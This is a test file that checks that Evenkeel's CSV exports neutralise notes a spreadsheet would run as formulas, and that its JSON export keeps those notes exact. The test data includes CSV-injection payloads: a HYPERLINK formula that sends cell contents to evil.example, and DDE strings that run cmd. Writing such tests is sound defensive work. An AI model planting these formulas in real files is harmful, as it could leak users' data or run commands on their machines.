// CSV formula injection (the second security review; docs/exports.md): a note a spreadsheet would run as
// a formula is written to every CSV Evenkeel makes (the zip's moods.csv and the range CSV) with
// a leading single quote, as OWASP's "CSV Injection" page says, while the JSON keeps it exact.
import { parseCsv } from "@evenkeel/domain/export";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { api } from "./support/api-client.ts";
import { daysBefore, utcToday } from "./support/seed-data.ts";
import { startTestServer, type TestServer } from "./support/test-server.ts";
import { signUpUser, type TestUser } from "./support/test-users.ts";

const today = utcToday();
/** Each begins with one of the characters OWASP lists: =, +, -, @, tab, carriage return. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
const SAFE = ["-4.5", "Deadline, then a=b"];
const NOTES = [...FORMULAS, ...SAFE];

let server: TestServer;
let ada: TestUser;

beforeAll(async () => {
  server = await startTestServer();
  ada = await signUpUser(server);
  const asAda = api(server, ada.accessToken);
  for (const [index, notes] of NOTES.entries()) {
    const created = await asAda.post("/mood/", { date: daysBefore(today, index), rating: 5, notes });
    expect(created.status).toBe(201);
  }
});
afterAll(() => server.close());

async function download(query: string): Promise<Response> {
  const response = await fetch(`${server.url}/api/export?${query}`, {
    headers: { authorization: `Bearer ${ada.accessToken}` },
  });
  expect(response.status).toBe(200);
  return response;
}

/** Each note's cell as written, by the mood's date. */
function notesByDate(csv: string, column: string): Map<string, string> {
  const [header, ...records] = parseCsv(csv);
  const index = header?.indexOf(column) ?? -1;
  expect(index).toBeGreaterThan(0);
  return new Map(records.map((record) => [record[0] as string, record[index] as string]));
}

function expectNeutralised(cells: Map<string, string>, raw: string): void {
  for (const [index, note] of NOTES.entries()) {
    const cell = cells.get(daysBefore(today, index));
    // A formula becomes text: a single quote first; a plain number or text stays as it is.
    expect(cell).toBe(FORMULAS.includes(note) ? `'${note}` : note);
  }
  // Every neutralised cell is also quoted, so nothing before the quote can start a formula.
  expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
}

describe("CSV cells a spreadsheet would run as formulas", () => {
  it("are neutralised in the zip's moods.csv, while its JSON keeps each note exact", async () => {
    const files = unzipSync(new Uint8Array(await (await download("format=zip")).arrayBuffer()));
    const raw = strFromU8(files["moods.csv"] as Uint8Array);
    expectNeutralised(notesByDate(raw, "notes"), raw);
    const document = JSON.parse(strFromU8(files["evenkeel-export.json"] as Uint8Array));
    expect(document.moods.map((mood: { notes: string }) => mood.notes).sort()).toEqual([...NOTES].sort());
  });

  it("are neutralised in the range CSV", async () => {
    const raw = await (
      await download(`format=csv&start_date=${daysBefore(today, NOTES.length)}&end_date=${today}`)
    ).text();
    expectNeutralised(notesByDate(raw, "mood_notes"), raw);
  });

  it("are exact in the JSON export", async () => {
    const document = (await (await download("format=json")).json()) as { moods: { notes: string }[] };
    expect(document.moods.map((mood) => mood.notes).sort()).toEqual([...NOTES].sort());
  });
});
